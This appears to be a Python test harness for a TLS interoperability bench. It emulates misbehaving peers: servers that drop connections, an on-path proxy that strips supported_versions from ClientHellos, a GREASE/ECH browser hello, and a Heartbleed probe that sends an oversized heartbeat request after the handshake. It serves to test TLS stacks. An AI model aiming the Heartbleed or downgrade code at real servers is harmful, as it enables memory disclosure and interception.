#!/usr/bin/env python3
"""What no stack does by itself, for benches/tls-matrix: servers that leave, somebody on the path, clients that attack.

    tls_odd.py close|reset             a server that takes a connection and leaves: with FIN, or with RST
    tls_odd.py strip WORD...           stands before `WORD...`, an openssl s_server, and takes supported_versions out of hellos
    tls_odd.py heartbleed HOST PORT    greets, and asks for more heartbeat than it brings
    tls_odd.py grease HOST PORT        greets like a browser: values without meaning, an encrypted ClientHello; then leaves

Servers listen where ROW_HOST and ROW_PORT say.
"""

import os
import socket
import struct
import subprocess
import sys
import threading
import time

HANDSHAKE, HEARTBEAT = 22, 24
SUPPORTED_VERSIONS = 43
HELLO_DONE = bytes([14, 0, 0, 0])


def listen():
    listener = socket.create_server((os.environ["ROW_HOST"], int(os.environ["ROW_PORT"])))
    taken, _ = listener.accept()
    return taken


def leave(with_reset):
    taken = listen()
    taken.recv(9000)
    if with_reset:
        taken.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
    taken.close()
    time.sleep(1)


def without(hello, unwanted):
    """A record with a ClientHello, without one of its extensions."""
    body = hello[9:]
    at = 34 + 1 + body[34]
    at += 2 + int.from_bytes(body[at:at + 2], "big")
    at += 1 + body[at]
    kept, rest = b"", body[at + 2:]
    while rest:
        length = 4 + int.from_bytes(rest[2:4], "big")
        if int.from_bytes(rest[:2], "big") != unwanted:
            kept += rest[:length]
        rest = rest[length:]
    return greeting(body[:at] + sized(2, kept), hello[:3])


def sized(octets, content):
    return len(content).to_bytes(octets, "big") + content


def greeting(body, start=bytes([HANDSHAKE, 3, 1])):
    return start + sized(2, bytes([1]) + sized(3, body))


def strip(words):
    host, port = os.environ["ROW_HOST"], int(os.environ["ROW_PORT"]) + 20_000
    backend = subprocess.Popen([*words, "-accept", str(port)], stdin=subprocess.PIPE)
    while True:
        try:
            server = socket.create_connection((host, port))
            break
        except ConnectionRefusedError:
            time.sleep(0.05)
    client = listen()
    server.sendall(without(client.recv(9000), SUPPORTED_VERSIONS))

    def pass_on(source, sink):
        while octets := source.recv(9000):
            sink.sendall(octets)
        sink.shutdown(socket.SHUT_WR)

    answers = threading.Thread(target=pass_on, args=(server, client), daemon=True)
    answers.start()
    pass_on(client, server)
    answers.join(2)
    backend.kill()


def extension(number, content):
    return number.to_bytes(2, "big") + sized(2, content)


def hello(suites, extensions):
    suites = b"".join(suite.to_bytes(2, "big") for suite in suites)
    listed = b"".join(extension(number, content) for number, content in extensions)
    return greeting(bytes([3, 3]) + os.urandom(32) + sized(1, b"") + sized(2, suites) + bytes([1, 0]) + sized(2, listed))


BOTH = [
    (10, bytes([0, 6, 0x4A, 0x4A, 0, 29, 0, 23])),
    (11, bytes([1, 0])),
    (13, bytes([0, 8, 4, 3, 8, 4, 4, 1, 5, 1])),
    (0xFF01, bytes([0])),
]


def attack(host, port):
    with socket.create_connection((host, port), timeout=3) as server:
        server.sendall(hello([0xC02F, 0x009C], [*BOTH, (15, bytes([1]))]))
        heard = b""
        while HELLO_DONE not in heard:
            heard += server.recv(9000)
        server.sendall(bytes([HEARTBEAT, 3, 3, 0, 3, 1, 0x40, 0]))
        time.sleep(0.5)


def browse(host, port):
    name = b"sip.example.org"
    outer = bytes([0, 0, 1, 0, 1, 77]) + sized(2, os.urandom(32)) + sized(2, os.urandom(144))
    more = [
        (0x2A2A, b""),
        (0, sized(2, bytes([0]) + sized(2, name))),
        (23, b""),
        (43, bytes([6, 0x3A, 0x3A, 3, 4, 3, 3])),
        (51, sized(2, bytes([0x4A, 0x4A, 0, 1, 0, 0, 29]) + sized(2, os.urandom(32)))),
        (0xFE0D, outer),
        (0x5A5A, bytes([0])),
    ]
    with socket.create_connection((host, port), timeout=3) as server:
        server.sendall(hello([0x6A6A, 0x1301, 0x1302, 0xC02B, 0xC02F], [*more[:3], *BOTH, *more[3:]]))
        server.recv(9000)
        time.sleep(0.2)


def main():
    mode, *rest = sys.argv[1:]
    if mode in ("close", "reset"):
        leave(mode == "reset")
    elif mode == "strip":
        strip(rest)
    else:
        {"heartbleed": attack, "grease": browse}[mode](rest[-2], int(rest[-1]))


if __name__ == "__main__":
    main()
